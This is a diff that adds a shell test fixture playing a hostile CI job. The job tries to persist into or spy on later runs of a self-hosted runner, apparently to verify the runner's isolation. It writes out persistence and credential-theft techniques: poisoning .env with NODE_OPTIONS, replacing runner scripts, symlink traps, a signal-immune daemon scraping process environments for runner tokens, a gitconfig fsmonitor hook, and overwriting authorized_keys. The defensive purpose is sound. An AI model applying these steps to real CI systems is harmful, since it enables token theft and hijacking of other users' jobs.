@@ -1,0 +1,50 @@
+# A hostile job of run A (docs/security.md, "Hostile jobs"): it runs as the
+# runner user and tries to persist into, or spy on, the next run on this
+# instance. The test prepends: R (this run's runner copy), I (the install),
+# W (the work folder), D (a drop box the wipe leaves alone, where whatever
+# survives reports), T (a file of root's), TAG (unique per test), AGENT
+# (the agent's pid). It prints what it managed that it never should have.
+
+# The runner's .env: the next listener, and every job of it, would load it.
+echo "GHR_FROM_A=planted" >>"$R/.env"
+echo "NODE_OPTIONS=--require=$D/evil.js" >>"$R/.env"
+
+# The install itself: root's, read-only to us.
+if echo 'echo owned' >>"$I/config.sh" 2>/dev/null; then echo "BREACH wrote the install's config.sh"; fi
+if echo "X=1" >"$I/.env" 2>/dev/null; then echo "BREACH created the install's .env"; fi
+
+# This run's copy is ours: replace the scripts the agent runs next (config.sh
+# remove carries the remove token in its environment).
+for s in config.sh run.sh; do
+	rm -f "$R/$s"
+	printf '#!/bin/bash\necho "%s ran" >>%s/planted-ran\nenv >>%s/planted-ran\n' "$s" "$D" "$D" >"$R/$s"
+	chmod +x "$R/$s"
+done
+
+# Symlinks where root used to write, or might: followed, they would let
+# root overwrite T.
+ln -sf "$T" "$R/.ghrunner-run.pid"
+ln -sf "$T" "$W/planted-link"
+ln -sf "$T" "/tmp/ghr-link-$TAG"
+
+# A daemon out of the runner's process group, deaf to the stop signals,
+# reading every environment it can (a config.sh of the next run holds its
+# token there) and the work folder (the next run's checkout), and a nohup loop.
+setsid bash -c 'trap "" INT TERM HUP
+while :; do
+	for e in /proc/[0-9]*/environ; do tr "\0" "\n" <"$e" 2>/dev/null | grep -a ACTIONS_RUNNER_INPUT_TOKEN; done
+	find "$1" 2>/dev/null
+	sleep 0.2
+done >>"$2/spy"' "ghr-daemon-$TAG" "$W" "$D" </dev/null >/dev/null 2>&1 &
+nohup bash -c 'trap "" INT TERM HUP; while :; do date >"$1/nohup-alive"; sleep 0.2; done' "ghr-nohup-$TAG" "$D" </dev/null >/dev/null 2>&1 &
+
+# Home and the shared temporary places: read by later jobs' tools.
+printf '[core]\n\tfsmonitor = touch %s/fsmonitor-ran\n' "$D" >~/.gitconfig
+mkdir -p ~/.ssh && echo planted >~/.ssh/authorized_keys
+for d in /tmp /var/tmp /dev/shm; do echo planted >"$d/ghr-a-$TAG"; done
+
+# Another process's environment: the agent's (root's).
+if tr "\0" "\n" <"/proc/$AGENT/environ" >/dev/null 2>&1; then echo "BREACH read the agent's environment"; fi
+
+sleep 0.5 # the spy has looked once
+echo "run A done"
